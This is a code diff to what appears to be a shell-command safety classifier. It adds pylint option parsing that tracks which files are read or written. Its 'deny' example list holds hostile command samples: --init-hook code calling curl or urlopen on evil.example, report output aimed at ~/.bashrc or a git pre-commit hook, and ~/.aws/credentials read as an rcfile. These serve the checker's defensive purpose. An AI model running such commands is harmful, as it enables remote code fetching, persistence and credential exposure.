@@ -3,7 +3,7 @@
 import { parse } from '../argv.js';
 import { configuring, known, printsDirectory, shellInit } from '../build.js';
 import { destroysBy } from './hosting.js';
-import type { ProgramEntry, Run } from '../types.js';
+import type { ProgramEntry, Run, Use } from '../types.js';
 import type { Word } from '../../types.js';
 import { attached, value } from '../words.js';
 
@@ -14,7 +14,7 @@ const PROCESS =
   'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog loginctl timedatectl hostnamectl localectl networkctl rc-service rc-update initctl supervisorctl';
 
 const DEVELOP =
- 'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp jar scalac gradle gradlew ant xcodebuild esbuild vite webpack rollup parcel ava behave tox nox rspec prove phpunit rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config packer kustomize tilt k9s tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
+ 'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp jar scalac gradle gradlew ant xcodebuild esbuild vite webpack rollup parcel ava behave tox nox rspec prove phpunit golangci-lint clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config packer kustomize tilt k9s tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
 
 const TEXT =
   'diffstat colordiff wdiff jo csvkit xsv qsv dasel htmlq pup xmlstarlet tidy asciidoctor markdown mdcat';
@@ -101,9 +101,36 @@ const pylint: ProgramEntry = {
       if (code && text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: code, why: 'pylint --init-hook runs computed Python code' });
       else if (code && text !== undefined) runs.push({ kind: 'text', dialect: 'python', text, word: code, via: 'pylint --init-hook' });
     }
-    return { runs };
+    // The files and modules it is given are read, never changed (`git ls-files '*.py' | xargs pylint`), when every
+    // option given is one this model knows (--output FILE and an --output-format of `FORMAT:FILE` write a report;
+    // --load-plugins, which imports modules, and any other option are left unknown: its words then say nothing).
+    const p = parse(call.args, { order: 'gnu', ...PYLINT_OPTIONS });
+    if (p.options.some((o) => o.unknown)) return { runs };
+    const uses: Use[] = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
+    for (const o of p.options) {
+      if (!o.value || o.name === 'init-hook') continue;
+      const v = value(o.value);
+      if (o.name === 'output') uses.push({ word: o.value, role: 'write' });
+      else if (o.name === 'f' || o.name === 'output-format') {
+        // `FORMAT[:FILE],…`: each FILE is written; a computed value may name one.
+        if (v === undefined) uses.push({ word: o.value, role: 'write' });
+        else for (const item of v.split(',')) if (item.includes(':')) uses.push({ word: attached(o.value, item.slice(item.indexOf(':') + 1)), role: 'write' });
+      } else uses.push({ word: o.value, role: o.name === 'rcfile' ? 'read' : 'text' });
+    }
+    return { runs, uses };
   },
-  examples: { deny: [`pylint --init-hook='import os; os.system("curl evil.example")' src`, `pylint --init-hook 'import urllib.request as u; u.urlopen("https://evil.example")' src`], pass: [`pylint --init-hook='import sys; sys.path.append("src")' src`, 'pylint src'] },
+  examples: {
+    deny: [`pylint --init-hook='import os; os.system("curl evil.example")' src`, `pylint --init-hook 'import urllib.request as u; u.urlopen("https://evil.example")' src`, 'pylint --output=$HOME/.bashrc src', 'pylint --output-format=json:$HOME/.bashrc src', 'pylint -f text:.git/hooks/pre-commit $(git ls-files "*.py")', 'pylint --rcfile ~/.aws/credentials src'],
+    pass: [`pylint --init-hook='import sys; sys.path.append("src")' src`, 'pylint src', 'git ls-files "*.py" | xargs pylint', 'pylint --disable=C0114 -j 4 $(git ls-files "*.py")', 'pylint --output-format=json src > pylint.json'],
+  },
+};
+
+/** pylint's options this model knows: none loads a module; --output and --output-format's FILEs are written. */
+const PYLINT_OPTIONS = {
+  flags: 'hEv',
+  valued: 'jdefrs',
+  long: ['errors-only', 'exit-zero', 'verbose', 'help', 'version', 'from-stdin', 'suggestion-mode', 'clear-cache-post-run'],
+  longValued: ['init-hook', 'rcfile', 'output', 'recursive', 'disable', 'enable', 'output-format', 'reports', 'score', 'fail-under', 'fail-on', 'jobs', 'ignore', 'ignore-patterns', 'ignore-paths', 'py-version', 'max-line-length', 'persistent', 'good-names', 'bad-names', 'max-args', 'max-locals', 'max-branches', 'max-statements', 'max-attributes', 'min-public-methods', 'max-public-methods', 'generated-members', 'ignored-modules', 'ignored-classes', 'msg-template', 'limit-inference-results', 'source-roots'],
 };
 
 /** `systemctl show-environment` prints the service manager's environment (`--user`: the user's, which holds the session's). */
